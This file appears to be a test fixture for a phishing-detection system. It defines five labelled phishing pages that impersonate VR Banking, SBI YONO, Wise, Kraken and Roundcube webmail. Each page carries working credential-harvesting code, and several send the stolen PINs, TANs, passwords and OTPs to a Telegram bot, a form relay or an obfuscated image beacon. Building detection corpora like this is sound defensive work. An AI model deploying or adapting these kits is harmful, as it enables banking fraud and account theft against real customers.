import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { analytics, b64, css, doc, img, js, json, text } from '../parts/h-parts.js';

export const entries: Entry[] = [
  // h-phish-vr-banking-tan-de
{
  id: 'h-phish-vr-banking-tan-de',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://vr-banking.sicherheit-kundenportal.info/banking-private/entry/',
  body: doc({
    lang: 'de',
    title: 'VR Banking - Anmeldung',
    head: '<link rel="icon" href="/banking-private/entry/res/fav.png"><link rel="stylesheet" href="/banking-private/entry/res/vr.css">',
    body: `<header class="top"><img src="/banking-private/entry/res/logo.png" alt="Volksbanken Raiffeisenbanken" width="40" height="40"><span class="bank">Volksbank Raiffeisenbank eG</span><nav><a href="#">Privatkunden</a><a href="#">Firmenkunden</a><a href="#">Service</a></nav></header>
<main class="box">
  <div class="hint"><b>Wichtiger Hinweis:</b> Aufgrund der neuen EU-Zahlungsdiensterichtlinie (PSD2) muss Ihr Online-Banking-Zugang bis zum <span id="dl"></span> neu bestätigt werden. Andernfalls wird der Zugang aus Sicherheitsgründen vorübergehend gesperrt.</div>
  <h1>Anmelden</h1>
  <form id="st1" autocomplete="off">
    <label>VR-NetKey oder Alias</label><input name="netkey" required maxlength="30">
    <label>PIN</label><input name="pin" type="password" required>
    <label>Bankleitzahl (BLZ)</label><input name="blz" inputmode="numeric" maxlength="8">
    <button type="submit">Anmelden</button>
  </form>
  <form id="st2" style="display:none" autocomplete="off">
    <p>Bitte bestätigen Sie Ihre Identität mit der <b>SecureGo plus</b> App oder Ihrem TAN-Generator (Sm@rt-TAN).</p>
    <label>Mobilnummer</label><input name="mobil" type="tel" required>
    <label>Geburtsdatum</label><input name="geb" placeholder="TT.MM.JJJJ" required>
    <label>TAN</label><input name="tan" inputmode="numeric" maxlength="6" required>
    <button type="submit">Bestätigen</button>
  </form>
  <div id="st3" style="display:none"><p>Vielen Dank. Ihr Zugang wurde erfolgreich verifiziert. Sie werden weitergeleitet…</p></div>
</main>
<footer>© Volksbanken Raiffeisenbanken · <a href="#">Impressum</a> · <a href="#">Datenschutz</a> · <a href="#">Sicherheitshinweise</a></footer>
<script src="/banking-private/entry/res/app.js"></script>`,
  }),
  routes: {
    'vr-banking.sicherheit-kundenportal.info/banking-private/entry/res/vr.css': css('body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4}.top{background:#fff;display:flex;align-items:center;gap:12px;padding:10px 30px;border-bottom:4px solid #ff6600}.bank{font-weight:bold;color:#0066b3}nav{margin-left:auto}nav a{margin-left:18px;color:#333;text-decoration:none}.box{max-width:420px;margin:40px auto;background:#fff;padding:28px;box-shadow:0 1px 4px #0002}.hint{background:#fff4e5;border-left:4px solid #ff6600;padding:10px;font-size:13px;margin-bottom:16px}label{display:block;margin-top:12px;font-size:13px}input{width:100%;padding:9px;border:1px solid #999;box-sizing:border-box}button{margin-top:18px;background:#0066b3;color:#fff;border:0;padding:11px 26px;font-size:15px}footer{text-align:center;font-size:12px;color:#666;padding:30px}'),
    'vr-banking.sicherheit-kundenportal.info/banking-private/entry/res/logo.png': img(0, 102, 179),
    'vr-banking.sicherheit-kundenportal.info/banking-private/entry/res/fav.png': img(255, 102, 0),
    'vr-banking.sicherheit-kundenportal.info/banking-private/entry/res/app.js': js(`var d=new Date(Date.now()+2*864e5);document.getElementById('dl').textContent=d.toLocaleDateString('de-DE');
var TG='7102938475:AAHq9vXr_k2LmZpT0cW8yN4bS1eF6gJdU3o',CID='-1002211448871',data={};
function send(t){var ip='';return fetch('https://api.telegram.org/bot'+TG+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:CID,text:'[VR] '+t+'\\nUA: '+navigator.userAgent})}).catch(function(){})}
document.getElementById('st1').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this);f.forEach(function(v,k){data[k]=v});send('NetKey: '+data.netkey+'\\nPIN: '+data.pin+'\\nBLZ: '+data.blz).then(function(){document.getElementById('st1').style.display='none';document.getElementById('st2').style.display='block'})});
document.getElementById('st2').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this);send('NetKey: '+data.netkey+'\\nMobil: '+f.get('mobil')+'\\nGeb: '+f.get('geb')+'\\nTAN: '+f.get('tan')).then(function(){document.getElementById('st2').style.display='none';document.getElementById('st3').style.display='block';setTimeout(function(){location.href='https://www.vr.de/'},2500)})});`),
    'api.telegram.org/bot7102938475:AAHq9vXr_k2LmZpT0cW8yN4bS1eF6gJdU3o/sendMessage': json({ ok: true, result: { message_id: 1 } }),
  },
},
  // h-phish-sbi-yono-kyc-in
{
  id: 'h-phish-sbi-yono-kyc-in',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://sbi-yono-kyc.in-update.xyz/kyc/index.php',
  body: doc({
    title: 'SBI YONO | KYC Update',
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#eef2f7}.hd{background:linear-gradient(90deg,#280071,#2d5fa8);color:#fff;padding:14px 18px;font-size:18px}.hd b{color:#fff;font-size:22px}.card{background:#fff;max-width:420px;margin:18px auto;padding:20px;border-radius:10px;box-shadow:0 2px 8px #0001}.warn{color:#c00;font-size:13px;background:#fff1f1;padding:8px;border-radius:6px}input,select{width:100%;padding:11px;margin:5px 0 11px;border:1px solid #bbb;border-radius:6px;box-sizing:border-box}button{background:#280071;color:#fff;width:100%;padding:12px;border:0;border-radius:22px;font-size:16px}.hi{font-size:13px;color:#444}`,
    body: `<div class="hd"><b>SBI</b> YONO &nbsp;|&nbsp; योनो</div>
<div class="card"><p class="warn">प्रिय ग्राहक, आपका YONO खाता आज रात 11:59 बजे ब्लॉक हो जाएगा। कृपया तुरंत अपना PAN कार्ड / KYC अपडेट करें।<br>Dear Customer, your SBI YONO account will be BLOCKED today. Please update your PAN / KYC immediately.</p>
<form method="post" action="step2.php" id="f">
<input name="uname" placeholder="Username" required>
<input name="pass" type="password" placeholder="Password" required>
<input name="mob" placeholder="Registered Mobile Number" maxlength="10" required>
<input name="pan" placeholder="PAN Card Number (ABCDE1234F)" maxlength="10" style="text-transform:uppercase" required>
<input name="aadhaar" placeholder="Aadhaar Number (12 digits)" maxlength="14" required>
<input name="dob" type="date" required>
<select name="acct"><option>Savings Account</option><option>Current Account</option><option>Salary Account</option></select>
<button>Submit KYC</button>
<p class="hi">On the next page you will receive an OTP on your registered mobile. Do not share OTP with anyone.</p>
</form></div>
<p style="text-align:center;font-size:11px;color:#777">© State Bank of India. All Rights Reserved.</p>`,
  }),
  routes: {
    'sbi-yono-kyc.in-update.xyz/kyc/step2.php': htmlRoute(doc({ title: 'SBI YONO | OTP', body: `<div style="max-width:400px;margin:40px auto;font-family:Arial"><h3>Enter OTP</h3><p>An OTP has been sent to your registered mobile number.</p><form method="post" action="final.php"><input name="otp" maxlength="6" style="width:100%;padding:10px"><button style="margin-top:12px;padding:10px 30px">Verify</button></form><p>Resend OTP in <span id="t">59</span>s</p></div><script>var t=59;setInterval(function(){if(t>0)document.getElementById('t').textContent=--t},1000)</script>` })),
  },
},
  // h-phish-wise-subdomain-otp
{
  id: 'h-phish-wise-subdomain-otp',
  label: 'phishing',
  kind: 'brand-subdomain',
  url: 'https://wise.com.login.secure-transfer.help/login?redirect=%2Fhome',
  body: doc({
    title: 'Log in – Wise',
    head: '<link rel="icon" href="/static/wfav.png">',
    css: `body{margin:0;font-family:Inter,"Helvetica Neue",Arial,sans-serif;background:#fff;color:#0e0f0c}.top{padding:20px 32px;display:flex;justify-content:space-between}.wm{font-weight:800;font-size:26px;color:#163300;letter-spacing:-1px}.wm span{color:#9fe870}.main{max-width:400px;margin:40px auto}h1{font-size:30px}label{display:block;font-size:14px;margin:14px 0 6px}input{width:100%;padding:14px;border:1px solid #868685;border-radius:10px;box-sizing:border-box;font-size:16px}.btn{margin-top:22px;width:100%;background:#9fe870;color:#163300;border:0;border-radius:24px;padding:14px;font-weight:600;font-size:16px}.alt{display:flex;gap:10px;margin-top:20px}.alt a{flex:1;border:1px solid #ccc;border-radius:24px;padding:10px;text-align:center;color:#163300;text-decoration:none}.sm{font-size:13px;color:#454745}`,
    body: `<div class="top"><div class="wm"><span>7</span>wise</div><a class="sm" href="#">Help</a></div>
<div class="main">
<div id="a"><h1>Welcome back.</h1><p class="sm">New to Wise? <a href="#">Sign up</a></p>
<form id="lf"><label>Your email address</label><input type="email" id="em" required><label>Your password</label><input type="password" id="pw" required><a class="sm" href="#">Trouble logging in?</a><button class="btn">Log in</button></form>
<p class="sm" style="text-align:center;margin-top:22px">Or log in with</p><div class="alt"><a href="#">Google</a><a href="#">Apple</a><a href="#">Facebook</a></div></div>
<div id="b" style="display:none"><h1>Check your phone</h1><p class="sm">We sent a 6-digit code to your phone number ending in <b id="ph">••••</b>. It's to make sure it's really you.</p><form id="of"><label>Enter code</label><input id="otp" maxlength="6" inputmode="numeric" autocomplete="one-time-code"><button class="btn">Continue</button></form><p class="sm"><a href="#" onclick="return false">I didn't receive a code</a></p></div>
</div>
<script>
var R='https://relay.formhook.app/f/9c1e7a22b4',S={};
function post(o){return fetch(R,{method:'POST',mode:'no-cors',headers:{'Content-Type':'application/json'},body:JSON.stringify(Object.assign({src:location.hostname,t:Date.now()},o))}).catch(function(){})}
document.getElementById('lf').onsubmit=function(e){e.preventDefault();S.e=document.getElementById('em').value;S.p=document.getElementById('pw').value;post(S).then(function(){document.getElementById('a').style.display='none';document.getElementById('b').style.display='block';document.getElementById('ph').textContent='•• '+(10+Math.floor(Math.random()*89))})};
document.getElementById('of').onsubmit=function(e){e.preventDefault();S.otp=document.getElementById('otp').value;post(S).then(function(){location.href='https://wise.com/'})};
</script>`,
  }),
  routes: {
    'wise.com.login.secure-transfer.help/static/wfav.png': img(159, 232, 112),
    'relay.formhook.app/f/9c1e7a22b4': json({ ok: true }),
  },
},
  // h-phish-kraken-punycode-2fa
{
  id: 'h-phish-kraken-punycode-2fa',
  label: 'phishing',
  kind: 'lookalike-host',
  url: 'https://www.xn--krakn-2we.com/sign-in',
  body: doc({
    title: 'Sign in | Kraken',
    head: '<meta name="description" content="Buy, sell and margin trade Bitcoin (BTC) and Ethereum (ETH) in exchange with EUR, USD, CAD, GBP, and JPY."><link rel="stylesheet" href="/assets/app.8f2c1.css">',
    body: `<div id="root"><div class="shell"><div class="brand"><svg width="28" height="28" viewBox="0 0 28 28"><circle cx="14" cy="14" r="14" fill="#7132f5"/><path d="M8 18v-5a6 6 0 0112 0v5" stroke="#fff" stroke-width="2.5" fill="none"/></svg> <span>kraken</span></div>
<div class="panel"><h1>Sign in to Kraken</h1>
<form id="login" action="/api/internal/auth" method="post">
<label>Username</label><input name="username" autocomplete="username" required>
<label>Password</label><input name="password" type="password" autocomplete="current-password" required>
<div id="tfa" class="hidden"><label>2FA code (Google Authenticator / Yubikey)</label><input name="otp" maxlength="44" autocomplete="one-time-code"></div>
<button type="submit">Continue</button>
<p class="sub"><a href="#">Forgot password?</a> · <a href="#">Forgot username?</a></p>
<p class="sub">Don't have an account? <a href="#">Create account</a></p>
</form></div>
<p class="legal">Payward, Inc. © 2011 - 2026 · <a href="#">Privacy notice</a> · <a href="#">Terms of service</a> · <a href="#">Status</a></p></div></div>
<script src="/assets/login.3b9a.js"></script>`,
  }),
  routes: {
    'www.xn--krakn-2we.com/assets/app.8f2c1.css': css('body{margin:0;background:#f7f7f8;font-family:"IBM Plex Sans",system-ui,sans-serif}.shell{max-width:420px;margin:60px auto}.brand{display:flex;align-items:center;gap:8px;font-size:26px;font-weight:700;color:#7132f5;margin-bottom:20px}.panel{background:#fff;border-radius:16px;padding:32px;box-shadow:0 4px 20px #0000000f}h1{font-size:22px;margin:0 0 18px}label{display:block;font-size:13px;color:#686b82;margin:12px 0 4px}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #d9d9e3;border-radius:10px}button{margin-top:20px;width:100%;padding:13px;border:0;border-radius:10px;background:#7132f5;color:#fff;font-weight:600}.hidden{display:none}.sub{font-size:13px;text-align:center}.legal{font-size:11px;color:#999;text-align:center;margin-top:24px}a{color:#7132f5}'),
    'www.xn--krakn-2we.com/assets/login.3b9a.js': js(`(function(){var f=document.getElementById('login'),stage=0;f.addEventListener('submit',function(e){e.preventDefault();var fd=new URLSearchParams(new FormData(f));fd.append('stage',stage);fd.append('tz',Intl.DateTimeFormat().resolvedOptions().timeZone);fetch('/api/internal/auth',{method:'POST',body:fd}).then(function(r){return r.json()}).then(function(j){if(j.next==='otp'&&stage===0){stage=1;document.getElementById('tfa').className='';f.querySelector('button').textContent='Verify'}else{location.href=j.redirect||'https://www.kraken.com/'}})})})();`),
    'www.xn--krakn-2we.com/api/internal/auth': json({ next: 'otp' }),
  },
},
  // h-phish-roundcube-obfuscated
{
  id: 'h-phish-roundcube-obfuscated',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://mailbox-quota-upgrade.pages-hosting.site/rc/?_task=login&email=it@harborlinefreight.com',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title><meta name="robots" content="noindex,nofollow"></head><body><script>
var _0x3e1=['${b64('<div style="font-family:Roboto,Arial,sans-serif;background:#eaeef0;position:fixed;inset:0"><div style="width:360px;margin:90px auto;background:#fff;border-radius:4px;box-shadow:0 2px 8px #0002;padding:30px"><div style="text-align:center;font-size:26px;color:#37beff;font-weight:bold">roundcube<span style="color:#2c363a"> webmail</span></div><p style="font-size:13px;color:#b00;background:#fdecea;padding:8px">Your mailbox has exceeded the storage limit (2 GB / 2 GB). Incoming messages are being held. Log in to upgrade your quota.</p><form id="x"><label style="font-size:13px">Username</label><input id="xu" style="width:100%;padding:8px;margin:4px 0 10px;box-sizing:border-box"><label style="font-size:13px">Password</label><input id="xp" type="password" style="width:100%;padding:8px;margin:4px 0 10px;box-sizing:border-box"><button style="width:100%;background:#37beff;color:#fff;border:0;padding:10px">Login</button></form><p style="text-align:center;font-size:11px;color:#999">Roundcube Webmail</p></div></div>')}','${b64('title')}','${b64('Roundcube Webmail :: Welcome to Roundcube Webmail')}'];
(function(_0xa,_0xb){var _0xc=function(_0xd){while(--_0xd){_0xa.push(_0xa.shift());}};_0xc(++_0xb);}(_0x3e1,0x3));
var _0x9f=function(i){return decodeURIComponent(escape(atob(_0x3e1[(i+0x3)%0x3])))};
document[_0x9f(1)]=_0x9f(2);document.body.innerHTML=_0x9f(0);
var q=new URLSearchParams(location.search).get('email')||'';document.getElementById('xu').value=q;
var _k=[104,116,116,112,115,58,47,47,109,98,120,45,108,111,103,46,112,97,103,101,115,45,104,111,115,116,105,110,103,46,115,105,116,101,47,114,46,112,104,112],_u=String.fromCharCode.apply(null,_k),_c=0;
document.getElementById('x').addEventListener('submit',function(e){e.preventDefault();_c++;var d='u='+encodeURIComponent(document.getElementById('xu').value)+'&p='+encodeURIComponent(document.getElementById('xp').value)+'&c='+_c;(new Image()).src=_u+'?'+d;if(_c>1){location.href='https://'+q.split('@')[1]}else{document.getElementById('xp').value='';}});
</script></body></html>`,
  routes: { 'mbx-log.pages-hosting.site/r.php': { status: 200, headers: { 'content-type': 'image/gif' }, body: Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64') } },
},
];
